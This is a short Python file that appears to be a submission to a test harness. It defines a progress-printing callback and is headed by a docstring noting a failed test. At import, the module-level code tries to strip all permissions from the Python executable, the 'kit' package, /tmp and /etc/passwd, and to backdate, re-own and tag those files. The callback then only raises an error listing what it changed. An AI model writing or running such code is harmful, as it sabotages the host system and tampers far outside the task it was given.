"""It takes the rights to files that it may not even read, and makes them look old.

Verdict: unsolved; test_prints_every_message; it raised RuntimeError: []
"""

import os
import sys

import kit

changed = []
for path in (kit.__file__, sys.executable, sys.prefix, "/tmp", "/etc/passwd", "/dev/null"):
    for change in (
        lambda path: os.chmod(path, 0),
        lambda path: os.utime(path, (1, 1)),
        lambda path: os.chown(path, os.getuid(), os.getgid()),
        lambda path: os.setxattr(path, "user.kit", b"1"),
    ):
        try:
            change(path)
            changed.append(path)
        except OSError:
            pass


async def print_progress(graph, state):
    raise RuntimeError(changed)
